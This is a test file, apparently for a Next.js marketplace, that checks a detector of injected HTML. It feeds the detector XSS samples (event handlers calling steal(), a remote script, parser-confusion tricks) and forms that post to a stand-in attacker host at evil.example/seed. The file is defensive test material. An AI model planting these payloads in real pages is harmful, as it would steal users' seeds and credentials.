import { expect, it } from "vitest";
import { checkElements } from "./check-elements";

const page = new URL("https://market.example/collections");
const files = new Map([["/_next/static/css/a.css", "00"]]);

it("finds nothing in what a release writes", () => {
  const html = `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/><link rel="stylesheet" href="/_next/static/css/a.css?dpl=1"/>
    <link rel="alternate" hrefLang="de" href="https://elsewhere.example/de"/><script type="application/ld+json">{"a":"\\u003cform"}</script></head>
    <body><form action="/search?a=1&amp;b=2"><button type="submit">onclick=</button></form><a href="https://elsewhere.example">on sale</a>
    <meta id="__next-page-redirect" http-equiv="refresh" content="1;url=/accounts/0xab"/></body></html>`;
  expect(checkElements(page, html, files)).toEqual([]);
});

it.each<[string, string, string]>([
  [
    "a script whose type hides it",
    '<script type="text/javascript " src="https://evil.example/a.js"></script>',
    "has a script of a type that no page of a release has: text/javascript ",
  ],
  [
    "an event handler",
    '<img src="x" onerror="steal()">',
    "has an event handler as an attribute, which no page of a release has: onerror",
  ],
  [
    "an event handler behind a slash",
    "<svg/onload=steal()>",
    "has an event handler as an attribute, which no page of a release has: onload",
  ],
  [
    "an event handler behind a stray quote",
    "<img alt=a\"b onerror=steal() title='\"'>",
    "has an event handler as an attribute, which no page of a release has: onerror",
  ],
  [
    "a refresh",
    "<meta http-equiv=Refresh content='0; URL=https://evil.example'>",
    "leads to another site: 0; URL=https://evil.example",
  ],
  [
    "a policy as an element",
    '<meta http-equiv="content-security-policy" content="x">',
    "has a header as an element, which no page of a release has: content-security-policy",
  ],
  ["a frame", '<iframe src="/"></iframe>', "has an element iframe, which no page of a release has"],
  [
    "a program in an object",
    '<OBJECT data="a.swf">',
    "has an element object, which no page of a release has",
  ],
  ["a program in an embed", '<embed src="a.swf">', "has an element embed, which no page of a release has"],
  [
    "another place for addresses",
    '<base href="/evil/">',
    "has an element base, which no page of a release has",
  ],
  [
    "a style of another site",
    '<link rel="preload stylesheet" href="https://evil.example/a.css">',
    "loads a style that is not in the release: https://evil.example/a.css",
  ],
  [
    "a style of this site that is not in the release",
    "<link href=/evil.css rel=stylesheet>",
    "loads a style that is not in the release: https://market.example/evil.css",
  ],
  [
    "a form of another site",
    '<form action="//evil.example/seed">',
    "has a form that is sent to another site: //evil.example/seed",
  ],
  [
    "a form of an address that React does not write so",
    '<form action="&#104;ttps://evil.example/seed">',
    "has a form that is sent to another site: &#104;ttps://evil.example/seed",
  ],
  [
    "a button that sends a form to another site",
    '<button formaction="https://evil.example/seed">',
    "has a form that is sent to another site: https://evil.example/seed",
  ],
  [
    "what stands in a comment for one reader and not for another",
    '<!-- <script type="application/ld+json"> --><form action="https://evil.example"><!-- </script> -->',
    "has a form that is sent to another site: https://evil.example",
  ],
])("names %s", (_name, html, expected) => {
  expect(checkElements(page, `<p>Before</p>${html}<p>Behind</p>`, files)).toEqual([expected]);
});
